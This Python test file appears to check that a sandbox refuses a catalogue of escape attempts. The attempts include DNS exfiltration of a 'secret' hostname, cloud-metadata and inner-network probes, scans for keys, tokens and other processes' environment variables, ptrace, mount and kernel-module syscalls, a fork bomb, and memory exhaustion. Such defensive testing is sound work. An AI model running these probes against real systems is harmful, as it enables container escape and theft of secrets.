"""What somebody in a room tries in order to get out, or at what is not theirs; every try must fail.

This file is read twice. The house reads the table: which promise each attempt is against, and which statement of
SATRE 2.0.1 it defends. And its text is run inside a room, by the room's own Python and nothing else, where each attempt
says what it got. So it imports only what Python brings, and knows of the house only the facts it is given.

An attempt that is let through returns what it got. One that is refused returns nothing, or raises OSError. No attempt
does harm where it is let through: what would end or change a machine is asked for with arguments that cannot work, and
whether the question got as far as being looked at is what tells.
"""

import ctypes
import errno
import json
import os
import platform
import re
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any, NamedTuple

Facts = dict[str, Any]
"""What the house says of the room: environment, mounts, ports, pids, sockets."""


class Attempt(NamedTuple):
    """One way to try."""

    promise: str
    satre: str
    does: Callable[[Facts], str | None]

    @property
    def name(self) -> str:
        """What is tried, in words."""
        return self.does.__name__.replace("_", " ")


ATTEMPTS: list[Attempt] = []


def against(promise: str, satre: str) -> Callable[[Callable[[Facts], str | None]], Callable[[Facts], str | None]]:
    """Put a function into the table."""

    def put(does: Callable[[Facts], str | None]) -> Callable[[Facts], str | None]:
        ATTEMPTS.append(Attempt(promise, satre, does))
        return does

    return put


# --- the kernel, asked directly ---------------------------------------------------------------------------------------
LIBC = ctypes.CDLL(None, use_errno=True)
# Numbers of system calls on x86-64 and arm64; from 424 on they are the same everywhere.
NUMBERS = {
    "acct": (163, 89), "add_key": (248, 217), "bpf": (321, 280), "chroot": (161, 51), "clock_settime": (227, 112),
    "fanotify_init": (300, 262), "finit_module": (313, 273), "init_module": (175, 105), "ioperm": (173, -1),
    "kcmp": (312, 272), "kexec_load": (246, 104), "keyctl": (250, 219), "mount": (165, 40), "mknodat": (259, 33),
    "name_to_handle_at": (303, 264), "open_by_handle_at": (304, 265), "perf_event_open": (298, 241),
    "pivot_root": (155, 41), "process_vm_readv": (310, 270), "ptrace": (101, 117),
    "quotactl": (179, 60), "reboot": (169, 142), "request_key": (249, 218), "setdomainname": (171, 162),
    "sethostname": (170, 161), "setns": (308, 268), "settimeofday": (164, 170), "swapon": (167, 224),
    "syslog": (103, 116), "umount2": (166, 39), "unshare": (272, 97), "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425), "open_tree": (428, 428), "move_mount": (429, 429), "fsopen": (430, 430),
    "pidfd_getfd": (438, 438), "mount_setattr": (442, 442),
}  # fmt: skip
MACHINES = {"x86_64": 0, "aarch64": 1}
REFUSED = frozenset({errno.EPERM, errno.ENOSYS, errno.EACCES})
NEW_USER, NEW_NET, NEW_PID, NEW_MOUNT = 0x10000000, 0x40000000, 0x20000000, 0x00020000


def kernel(name: str, *given: object) -> str | None:
    """Make a system call; say what it got, unless the kernel or the filter before it would not hear of it."""
    number = NUMBERS[name][MACHINES[platform.machine()]]
    if number < 0:
        return None  # no such call on this machine
    ctypes.set_errno(0)
    got = LIBC.syscall(number, *(ctypes.c_long(one) if isinstance(one, int) else one for one in given))
    wrong = ctypes.get_errno()
    if got >= 0:
        return f"{name} was done"
    return None if wrong in REFUSED else f"{name} was heard ({errno.errorcode.get(wrong, wrong)})"


def apart(does: Callable[[], str | None], *, seconds: float = 20.0) -> str | None:
    """Do it in a process of its own, which may die of it."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(read)
        signal.alarm(int(seconds))
        with suppress(BaseException):
            os.write(write, (does() or "").encode())
        os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as said:
        got = said.read().decode()
    os.waitpid(child, 0)
    return got or None


def opens(*paths: str, flags: int = os.O_RDONLY) -> str | None:
    """Open one of these; nothing is read or written."""
    for path in paths:
        with suppress(OSError):
            os.close(os.open(path, flags | os.O_NONBLOCK | os.O_CLOEXEC))
            return f"{path} opens"
    return None


# --- P1: a way out ----------------------------------------------------------------------------------------------------
UNREACHABLE = frozenset({errno.ENETUNREACH, errno.EAFNOSUPPORT, errno.EADDRNOTAVAIL, *REFUSED})


def sends(family: int, kind: int, *where: tuple[object, ...]) -> str | None:
    """Reach one of these addresses, or let a packet go there: only `no network` is a refusal."""
    for address in where:
        try:
            with socket.socket(family, kind) as door:
                door.settimeout(2)
                if kind == socket.SOCK_STREAM:
                    door.connect(address)
                else:
                    door.sendto(b"out", address)
        except OSError as error:
            if error.errno in UNREACHABLE:
                continue
            return f"{address[0]}: {error}"
        return f"{address[0]} was reached"
    return None


@against("P1", "2.2.11")
def use_an_interface_beside_loopback(facts: Facts) -> str | None:
    found = sorted(name for _, name in socket.if_nameindex())
    return None if found == ["lo"] else f"interfaces: {', '.join(found)}"


@against("P1", "2.2.11")
def reach_the_internet_by_tcp(facts: Facts) -> str | None:
    return sends(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 443), ("1.1.1.1", 443))


@against("P1", "2.2.11")
def reach_the_internet_by_udp(facts: Facts) -> str | None:
    return sends(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53), ("224.0.0.251", 5353))


@against("P1", "2.2.11")
def reach_the_internet_by_ipv6(facts: Facts) -> str | None:
    return sends(socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 443), ("2606:4700::1111", 80))


@against("P1", "2.2.09")
def ask_the_cloud_who_this_machine_is(facts: Facts) -> str | None:
    return sends(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80), ("169.254.170.2", 80))


@against("P1", "2.2.10")
def reach_a_neighbour_on_the_inner_network(facts: Facts) -> str | None:
    return sends(
        socket.AF_INET, socket.SOCK_STREAM, ("172.17.0.1", 22), ("10.0.0.1", 53), ("192.168.0.1", 80), ("10.88.0.1", 80)
    )


@against("P1", "2.2.10")
def reach_the_processes_of_the_house(facts: Facts) -> str | None:
    for port in facts["ports"]:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2):
            return f"port {port} answers"
    return None


@against("P1", "2.2.11")
def have_a_name_resolved(facts: Facts) -> str | None:
    for name in ("example.org", "metadata.google.internal", "hub"):
        with suppress(OSError):
            return f"{name} is {socket.getaddrinfo(name, 80)[0][4][0]}"
    return None


@against("P1", "2.2.11")
def carry_data_out_in_the_name_of_a_host(facts: Facts) -> str | None:
    servers = re.findall(r"^nameserver\s+(\S+)", _text("/etc/resolv.conf"), re.MULTILINE) or ["127.0.0.53"]
    question = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x07example\x03org\x00\x00\x01\x00\x01"
    for server in servers:
        with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
            door.settimeout(2)
            door.connect((server, 53))
            door.send(question)
            return f"{server} answers: {len(door.recv(512))} bytes"
    return None


def makes(family: int, kind: int, protocol: int = 0) -> str | None:
    """Get a socket of a kind that no analysis needs."""
    with suppress(OSError), socket.socket(family, kind, protocol):
        return f"a socket of family {family}, kind {kind}"
    return None


@against("P1", "2.2.11")
def write_packets_by_hand(facts: Facts) -> str | None:
    return makes(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) or makes(socket.AF_INET, socket.SOCK_RAW, 255)


@against("P1", "2.2.11")
def listen_to_the_wire(facts: Facts) -> str | None:
    return makes(socket.AF_PACKET, socket.SOCK_RAW, 3)


@against("P1", "2.2.09")
def speak_with_the_hypervisor(facts: Facts) -> str | None:
    return makes(40, socket.SOCK_STREAM)  # AF_VSOCK: no namespace keeps it in


@against("P1", "2.2.09")
def speak_by_radio(facts: Facts) -> str | None:
    return makes(31, socket.SOCK_RAW, 1) or makes(29, socket.SOCK_RAW, 1)  # Bluetooth; CAN bus


@against("P1", "2.1.14")
def ask_the_kernel_by_sockets_that_no_analysis_needs(facts: Facts) -> str | None:
    families = {"AF_ALG": 38, "AF_KEY": 15, "AF_RDS": 21, "AF_TIPC": 30, "AF_KCM": 41, "AF_XDP": 44, "AF_SMC": 43}
    return next((name for name, family in families.items() if _any_kind(family)), None)


def _any_kind(family: int) -> bool:
    kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET)
    return any(makes(family, kind) for kind in kinds)


@against("P1", "2.1.14")
def ask_other_parts_of_the_kernel_by_netlink(facts: Facts) -> str | None:
    others = {"audit": 9, "netfilter": 12, "generic": 16, "uevents": 15, "crypto": 21, "connector": 11, "diag": 4}
    return next((name for name, protocol in others.items() if makes(16, socket.SOCK_RAW, protocol)), None)


@against("P1", "2.2.09")
def add_an_interface(facts: Facts) -> str | None:
    """RTM_NEWLINK of a dummy: the kernel looks at it only from somebody who rules the network."""
    kind = struct.pack("HH", 9, 1) + b"dummy\0\0\0"
    info = struct.pack("HH", 4 + len(kind), 18) + kind
    body = struct.pack("BxHiII", 0, 0, 0, 0, 0) + info
    wanted = struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body
    with suppress(OSError), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as door:
        door.settimeout(2)
        door.send(wanted)
        code = struct.unpack_from("i", door.recv(4096), 16)[0]
        return None if -code in REFUSED else f"the kernel says {code}"
    return None


@against("P1", "2.2.10")
def find_a_socket_of_somebody_else(facts: Facts) -> str | None:
    found = {str(path) for path in _walk("/", skip=("/proc", "/sys")) if stat.S_ISSOCK(_mode(path))}
    others = sorted(found - set(facts["sockets"]))
    return f"sockets: {', '.join(others)}" if others else None


@against("P1", "2.2.10")
def find_a_socket_that_has_no_file(facts: Facts) -> str | None:
    names = [line.split()[-1] for line in _text("/proc/net/unix").splitlines()[1:] if " @" in line]
    return f"abstract sockets: {', '.join(names[:3])}" if names else None


@against("P1", "2.1.14")
def order_about_the_engine(facts: Facts) -> str | None:
    places = ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock")
    return next((path for path in places if os.path.exists(path)), None)  # noqa: PTH110 -- a link is as good


@against("P1", "2.2.09")
def have_a_network_of_ones_own(facts: Facts) -> str | None:
    return apart(lambda: kernel("unshare", NEW_NET))


@against("P1", "2.2.09")
def rule_as_root_of_ones_own_namespace(facts: Facts) -> str | None:
    return apart(lambda: kernel("unshare", NEW_USER) or kernel("unshare", NEW_USER | NEW_NET | NEW_MOUNT))


@against("P1", "2.2.09")
def step_into_the_namespace_of_another(facts: Facts) -> str | None:
    def step(place: str) -> str | None:
        with open(place, "rb") as file:  # noqa: PTH123 -- a descriptor is what is asked for
            return kernel("setns", file.fileno(), NEW_NET)

    return apart(lambda: step("/proc/1/ns/net")) or apart(lambda: step("/proc/self/ns/net"))


# --- P2: keys, and who one is -----------------------------------------------------------------------------------------
@against("P2", "2.8.05")
def read_a_secret_from_the_environment(facts: Facts) -> str | None:
    more = sorted(set(os.environ) - set(facts["environment"]) - {"HOSTNAME", "LC_CTYPE", "PWD", "SHLVL", "_"})
    return f"variables: {', '.join(more)}" if more else None


@against("P2", "2.8.05")
def read_a_secret_from_the_environment_of_another_process(facts: Facts) -> str | None:
    known = {*facts["environment"], "LC_CTYPE", "HOSTNAME", "container", "PWD", "SHLVL", "_"}
    for place in Path("/proc").glob("[0-9]*/environ"):
        with suppress(OSError):
            names = {word.partition(b"=")[0].decode() for word in place.read_bytes().split(b"\0") if word}
            if names - known:
                return f"{place}: {', '.join(sorted(names - known))}"
    return None


SECRETS = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY-----|PRIVATE\+KEY\+|JUPYTERHUB_API_TOKEN|JPY_API_TOKEN")


@against("P2", "2.8.05")
def find_a_key_in_a_file(facts: Facts) -> str | None:
    for top in ("/etc", "/home", "/root", "/run", "/var", "/tmp", "/workspace", "/outbox"):  # noqa: S108 -- looked at
        for path in _walk(top):
            if stat.S_ISREG(_mode(path)):
                with suppress(OSError):
                    if SECRETS.search(path.read_bytes()[:1_000_000]):
                        return str(path)
    return None


@against("P2", "2.8.05")
def use_the_kernels_keyring(facts: Facts) -> str | None:
    calls = (("keyctl", 0, -3, 0), ("add_key", 0, 0, 0, 0, 0), ("request_key", 0, 0, 0, 0))
    return next((got for call in calls if (got := kernel(*call))), None)


@against("P2", "2.1.14")
def become_root(facts: Facts) -> str | None:
    def become() -> str | None:
        steps: tuple[tuple[Callable[..., None], tuple[object, ...]], ...] = (
            (os.setuid, (0,)),
            (os.setresuid, (0, 0, 0)),
            (os.setgroups, ([0],)),
        )
        for step, given in steps:
            with suppress(OSError):
                step(*given)
                return f"{step.__name__} was done"
        return "runs as root" if os.geteuid() == 0 else None

    return apart(become)


@against("P2", "2.1.14")
def become_another_person(facts: Facts) -> str | None:
    def become() -> str | None:
        with suppress(OSError):
            os.setresuid(os.getuid() + 1, os.getuid() + 1, os.getuid() + 1)
            return f"runs as {os.getuid()}"
        return None

    return apart(become)


@against("P2", "2.1.14")
def find_a_program_that_runs_as_somebody_else(facts: Facts) -> str | None:
    for path in _walk("/", skip=("/proc", "/sys", "/data")):
        mode = _mode(path)
        if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID):
            return str(path)
    return None


@against("P2", "2.1.14")
def have_a_power_of_root(facts: Facts) -> str | None:
    powers = re.findall(r"^Cap[A-Z][a-z]+:\s*(\w+)$", _text("/proc/self/status"), re.MULTILINE)
    if len(powers) < 5 or any(int(one, 16) for one in powers):  # noqa: PLR2004 -- the five sets of the kernel
        return f"capabilities {', '.join(powers)}"
    return None


@against("P2", "2.1.14")
def gain_privileges_by_a_program(facts: Facts) -> str | None:
    return None if re.search(r"^NoNewPrivs:\s*1$", _text("/proc/self/status"), re.MULTILINE) else "a program could"


@against("P2", "2.1.14")
def call_the_kernel_unfiltered(facts: Facts) -> str | None:
    return None if re.search(r"^Seccomp:\s*2$", _text("/proc/self/status"), re.MULTILINE) else "no filter"


@against("P2", "2.1.14")
def look_into_another_process(facts: Facts) -> str | None:
    def look() -> str | None:
        seize = 0x4206
        return kernel("ptrace", seize, os.getppid(), 0, 0) or kernel("process_vm_readv", os.getppid(), 0, 0, 0, 0, 0)

    return apart(look)


@against("P2", "2.1.14")
def take_an_open_file_from_another_process(facts: Facts) -> str | None:
    return kernel("pidfd_getfd", -1, 0, 0) or kernel("kcmp", os.getpid(), os.getppid(), 0, 0, 0)


@against("P2", "2.1.14")
def see_a_process_of_the_host(facts: Facts) -> str | None:
    first = _text("/proc/1/cmdline").replace("\0", " ").strip()
    return (
        None if first.split("/")[-1].split(" ")[0] in {"tini", "bwrap"} or "attempts" in first else f"1 is {first[:80]}"
    )


# --- P5: data that are not mounted, or not to be changed --------------------------------------------------------------
@against("P5", "3.2.03")
def find_a_folder_that_is_not_the_rooms(facts: Facts) -> str | None:
    kernels = ("/proc", "/sys", "/dev")
    places = [line.split()[4] for line in _text("/proc/self/mountinfo").splitlines()]
    others = [one for one in places if one not in facts["mounts"] and not one.startswith(kernels)]
    return f"mounts: {', '.join(others)}" if others else None


@against("P5", "3.2.03")
def list_the_data_of_another_project(facts: Facts) -> str | None:
    mounted = {one.removeprefix("/data/") for one in facts["mounts"] if one.startswith("/data/")}
    found = set(os.listdir("/data")) if os.path.isdir("/data") else set()  # noqa: PTH112, PTH208 -- the same as tried
    return f"data: {', '.join(sorted(found - mounted))}" if found - mounted else None


@against("P5", "3.1.14")
def change_the_data(facts: Facts) -> str | None:
    for place in (*(one for one in facts["mounts"] if one.startswith("/data/")), "/imports"):
        if got := _writes(place):
            return got
    return None


@against("P5", "3.1.14")
def change_how_the_data_are_mounted(facts: Facts) -> str | None:
    remount = 0x20
    return (
        kernel("mount", 0, 0, 0, remount, 0)
        or kernel("mount_setattr", -1, 0, 0, 0, 0)
        or kernel("umount2", ctypes.c_char_p(b"/nowhere"), 0)
    )


@against("P5", "3.2.03")
def mount_the_disk_of_the_host(facts: Facts) -> str | None:
    return (
        kernel("mount", ctypes.c_char_p(b"none"), ctypes.c_char_p(b"/nowhere"), ctypes.c_char_p(b"tmpfs"), 0, 0)
        or kernel("fsopen", ctypes.c_char_p(b"none"), 0)
        or kernel("open_tree", -1, ctypes.c_char_p(b"/nowhere"), 1)
        or kernel("move_mount", -1, ctypes.c_char_p(b""), -1, ctypes.c_char_p(b""), 0)
    )


@against("P5", "3.2.03")
def open_a_file_of_the_host_by_its_number(facts: Facts) -> str | None:
    return kernel("open_by_handle_at", -1, 0, 0) or kernel("name_to_handle_at", -1, 0, 0, 0, 0)


@against("P5", "3.2.03")
def make_a_door_to_the_disk(facts: Facts) -> str | None:
    for place in ("/tmp", "/workspace", "/dev"):  # noqa: S108 -- tried
        path = f"{place}/.disk"
        if got := kernel("mknodat", -100, ctypes.c_char_p(path.encode()), stat.S_IFBLK | 0o600, os.makedev(7, 0)):
            with suppress(OSError):
                Path(path).unlink()
            return got
    return None


@against("P5", "3.2.03")
def open_a_device_of_the_host(facts: Facts) -> str | None:
    usual = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console"}
    found = [one for one in _walk("/dev") if stat.S_ISBLK(_mode(one)) or stat.S_ISCHR(_mode(one))]
    others = [str(one) for one in found if one.name not in usual and not str(one).startswith("/dev/pts/")]
    return f"devices: {', '.join(others[:5])}" if others else None


@against("P5", "3.2.03")
def leave_the_folder_that_is_the_root(facts: Facts) -> str | None:
    return kernel("chroot", ctypes.c_char_p(b"/nowhere")) or kernel("pivot_root", 0, 0)


@against("P5", "2.1.14")
def change_the_system_of_the_room(facts: Facts) -> str | None:
    return next(
        (got for place in ("/", "/etc", "/usr", "/opt/venv", "/opt/venv/bin", "/var") if (got := _writes(place))), None
    )


@against("P5", "2.1.14")
def run_a_program_from_where_anybody_may_write(facts: Facts) -> str | None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "run")
        path.write_text("#!/bin/sh\necho ran\n")
        path.chmod(0o700)
        with suppress(OSError):
            subprocess.run([path], check=True, capture_output=True)
            return f"{path.parent.parent} runs programs"
    return None


# --- the machine below ------------------------------------------------------------------------------------------------
@against("P9", "2.1.14")
def put_code_into_the_kernel(facts: Facts) -> str | None:
    calls = (("init_module", 0, 0, 0), ("finit_module", -1, 0, 0), ("bpf", 0, 0, 0), ("kexec_load", 0, 0, 0, 7))
    return next((got for call in calls if (got := kernel(*call))), None)


@against("P9", "2.1.14")
def use_parts_of_the_kernel_that_often_have_holes(facts: Facts) -> str | None:
    calls = (("io_uring_setup", 0, 0), ("userfaultfd", 0), ("perf_event_open", 0, 0, 0, 0, 0))
    return next((got for call in calls if (got := kernel(*call))), None)


@against("P9", "2.1.14")
def watch_every_file_of_the_host(facts: Facts) -> str | None:
    return kernel("fanotify_init", 0, 0)


@against("P9", "2.1.14")
def end_the_machine(facts: Facts) -> str | None:
    return kernel("reboot", 0, 0, 0, 0) or opens("/proc/sysrq-trigger", flags=os.O_WRONLY)


@against("P9", "2.5.03")
def turn_the_clock(facts: Facts) -> str | None:
    return kernel("clock_settime", 0, 0) or kernel("settimeofday", 0, 0)


@against("P9", "2.1.14")
def change_the_name_of_the_machine(facts: Facts) -> str | None:
    return kernel("sethostname", 0, 1) or kernel("setdomainname", 0, 1)


@against("P9", "2.1.14")
def change_what_all_processes_share(facts: Facts) -> str | None:
    return kernel("swapon", 0, 0) or kernel("acct", ctypes.c_char_p(b"/nowhere")) or kernel("quotactl", 0, 0, 0, 0)


@against("P9", "2.1.14")
def set_the_switches_of_the_kernel(facts: Facts) -> str | None:
    found = ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches",
             "/proc/sys/net/ipv4/ip_forward", "/sys/kernel/mm/transparent_hugepage/enabled")  # fmt: skip
    return opens(*found, flags=os.O_WRONLY)


@against("P9", "2.1.14")
def have_a_program_run_when_a_control_group_ends(facts: Facts) -> str | None:
    names = {"release_agent", "notify_on_release", "cgroup.procs", "tasks", "memory.limit_in_bytes", "memory.max"}
    found = (str(path) for path in _walk("/sys/fs/cgroup") if path.name in names)
    return opens(*found, flags=os.O_WRONLY)


@against("P9", "2.1.14")
def read_the_memory_of_the_machine(facts: Facts) -> str | None:
    paths = ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port", "/proc/keys", "/proc/timer_list", "/proc/sched_debug")
    return next((path for path in paths if _gives(path)), None)


@against("P9", "2.1.14")
def read_what_the_kernel_said(facts: Facts) -> str | None:
    return kernel("syslog", 2, 0, 0) or opens("/dev/kmsg", "/proc/kmsg")


@against("P9", "2.1.14")
def read_the_firmware(facts: Facts) -> str | None:
    folders = ("/sys/firmware", "/proc/acpi", "/proc/scsi", "/sys/devices/virtual/powercap")
    return next((one for one in folders if os.path.isdir(one) and os.listdir(one)), None)  # noqa: PTH112, PTH208 -- the same as tried


@against("P9", "2.1.14")
def speak_with_the_ports_of_the_processor(facts: Facts) -> str | None:
    return kernel("ioperm", 0, 0, 0)


@against("P9", "2.1.14")
def leave_memory_behind_as_a_file(facts: Facts) -> str | None:
    return None if resource.getrlimit(resource.RLIMIT_CORE)[1] == 0 else "a core may be written"


@against("P9", "2.1.14")
def fork_without_end(facts: Facts) -> str | None:
    """Make more processes than the room may have; all of them end at once."""

    def bomb() -> str | None:
        children: list[int] = []
        try:
            for _ in range(facts["pids"] + 50):
                child = os.fork()
                if child == 0:
                    signal.pause()
                    os._exit(0)
                children.append(child)
        except OSError:
            return None
        finally:
            for child in children:
                os.kill(child, signal.SIGKILL)
                os.waitpid(child, 0)
        return f"{len(children)} processes"

    return apart(bomb)


@against("P9", "2.1.14")
def take_all_the_memory(facts: Facts) -> str | None:
    """Fill more than the room may have; the kernel ends the process that did."""

    def fill() -> str | None:
        with suppress(OSError):
            Path("/proc/self/oom_score_adj").write_text("1000")
        wanted = facts["memory"] + 64 * 2**20
        held = [b"\x01" * 2**24 for _ in range(0, wanted, 2**24)]
        return f"{len(held) * 2**24} bytes"

    return apart(fill)


# --- small things -----------------------------------------------------------------------------------------------------
def _text(path: str) -> str:
    try:
        with open(path, encoding="utf-8", errors="replace") as file:  # noqa: PTH123 -- as others would
            return file.read()
    except OSError:
        return ""


def _gives(path: str) -> bool:
    try:
        with open(path, "rb", buffering=0) as file:  # noqa: PTH123 -- as others would
            return bool(file.read(16))
    except OSError:
        return False


def _mode(path: Path) -> int:
    try:
        return path.lstat().st_mode
    except OSError:
        return 0


def _walk(top: str, *, skip: tuple[str, ...] = ()) -> Iterator[Path]:
    """Give every name below a folder; what cannot be listed has none."""
    for folder, folders, names in os.walk(top):
        folders[:] = [one for one in folders if os.path.join(folder, one) not in skip]  # noqa: PTH118 -- many of them
        for name in names:
            yield Path(folder, name)


def _writes(folder: str) -> str | None:
    if not os.path.isdir(folder):  # noqa: PTH112 -- as others would
        return None
    path = f"{folder.rstrip('/')}/.attempt"
    with suppress(OSError):
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
        Path(path).unlink()
        return f"{folder} can be written"
    return None


def main(facts: Facts) -> None:
    """Try everything; a line of JSON for each."""
    for attempt in ATTEMPTS:
        got, broke = None, ""
        try:
            got = attempt.does(facts)
        except OSError as error:
            del error  # refused
        except Exception as error:  # noqa: BLE001 -- what could not be tried was not refused
            broke = f"could not be tried: {type(error).__name__}: {error}"[:200]
        print(json.dumps({"name": attempt.name, "got": got or "", "broke": broke}), flush=True)


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
